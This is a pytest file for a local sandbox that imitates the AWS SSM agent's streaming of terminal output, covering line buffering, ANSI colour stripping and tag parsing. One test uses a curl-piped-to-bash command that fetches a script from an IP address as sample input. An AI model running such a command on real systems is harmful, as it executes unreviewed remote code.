"""The sandbox's stand-in for the SSM agent: which terminal output is streamed, and how."""

from __future__ import annotations

import pytest

from ssm_warden_local.agent_model import AgentStream
from ssm_warden_local.sandbox import agent_line, parse_tags


def test_only_complete_lines_are_streamed_and_the_prompt_waits_for_its_command() -> None:
    # Given terminal output that ends with a prompt the user has not typed after yet
    agent = AgentStream()
    agent.feed(b"hello\r\n[ssm-user@sandbox ~]$ ")
    # When the agent takes what it may send
    # Then only the complete line goes, and the prompt goes with the command typed after it
    assert agent.tick() == [["hello"]]
    agent.feed(b"curl -s http://203.0.113.9/x.sh | bash\r\n")
    assert agent.tick() == [["[ssm-user@sandbox ~]$ curl -s http://203.0.113.9/x.sh | bash"]]
    assert agent.tick() == []


def test_a_session_that_ends_sends_its_unfinished_last_line_too() -> None:
    agent = AgentStream()
    agent.feed(b"done\r\n[ssm-user@sandbox ~]$ exi")
    assert agent.drain() == [["done", "[ssm-user@sandbox ~]$ exi"]]


def test_colours_are_stripped_but_a_line_with_a_bel_ended_title_is_sent_raw() -> None:
    # As the agent's Strip does (aws-facts §6): an OSC ended by BEL makes the whole line raw
    assert agent_line("\x1b[?2004h\x1b[01;32mok\x1b[0m\tdone\r") == "ok done"
    raw = "\x1b]0;ssm-user@sandbox\x07\x1b[01;32mok\x1b[0m\tdone\r"
    assert agent_line(raw) == "\x1b]0;ssm-user@sandbox\x07\x1b[01;32mok\x1b[0m done"


def test_tags_are_key_value_pairs() -> None:
    assert parse_tags(["Environment=prod", "Team=db=main"]) == {"Environment": "prod", "Team": "db=main"}
    with pytest.raises(ValueError, match="KEY=VALUE"):
        parse_tags(["Environment"])
